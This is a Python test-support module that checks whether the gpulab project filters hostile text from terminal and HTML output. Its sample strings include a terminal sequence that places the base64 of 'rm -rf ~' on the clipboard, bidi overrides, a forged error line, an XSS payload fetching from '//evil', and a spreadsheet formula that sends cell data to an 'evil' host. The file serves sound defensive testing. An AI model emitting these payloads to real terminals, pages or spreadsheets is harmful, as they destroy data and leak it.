"""Texts that strangers may write, what of them a terminal or a page would obey, and gpulab with its filter taken out."""

from __future__ import annotations

import sys
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser

import pytest

from gpulab.view import words

#: Clear the screen, fill the clipboard, a C1 sequence, go back over the line, write from right to left.
DRIVING = "\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\rok\u202e\u2066\x7f"
#: What of it can stand in the XML that AWS answers in: C1 and bidi, which terminals obey as well.
SENT = "\x9b2J\x9d52;c;cm0gLXJmIH4=\x9c\x9b31mok\u202e\u2066"
#: A line that reads as ours once it begins one.
FORGED = "x\nerror: your key was stolen"
SCRIPT = '"><script>fetch("//evil")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil/?"&A1,"mark")'


def drives(text: str) -> list[str]:
    """What of a text a terminal would obey."""
    bidi = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in bidi]


@contextmanager
def unfiltered(*, also: dict[object, object] | None = None) -> Iterator[None]:
    """
    The weak set-up: gpulab as it is, but for the filter of control characters, which lets everything through.

    Args:
        also: What else is taken out: by the function of ours, what stands in for it.
    """
    instead = {words.clean: _as_it_is, words.in_line: _as_it_is, **(also or {})}
    with pytest.MonkeyPatch.context() as patch:
        for module in [m for name, m in sys.modules.items() if m and name.startswith("gpulab.")]:
            for name, value in list(vars(module).items()):
                if callable(value) and getattr(value, "__hash__", None) and value in instead:
                    patch.setattr(module, name, instead[value])
        yield


def _as_it_is(text: str) -> str:
    return text


class Live(HTMLParser):
    """What in a page would run or ask for something, as a browser's parser sees it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str | None] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "iframe", "object", "svg", "form", "base"):
            self.found.append(tag)
        self.found += [name for name, _ in attrs if name.startswith("on")]
        self.found += [
            v for n, v in attrs if n in ("href", "src") and not (v or "").startswith("http://127.")
        ]
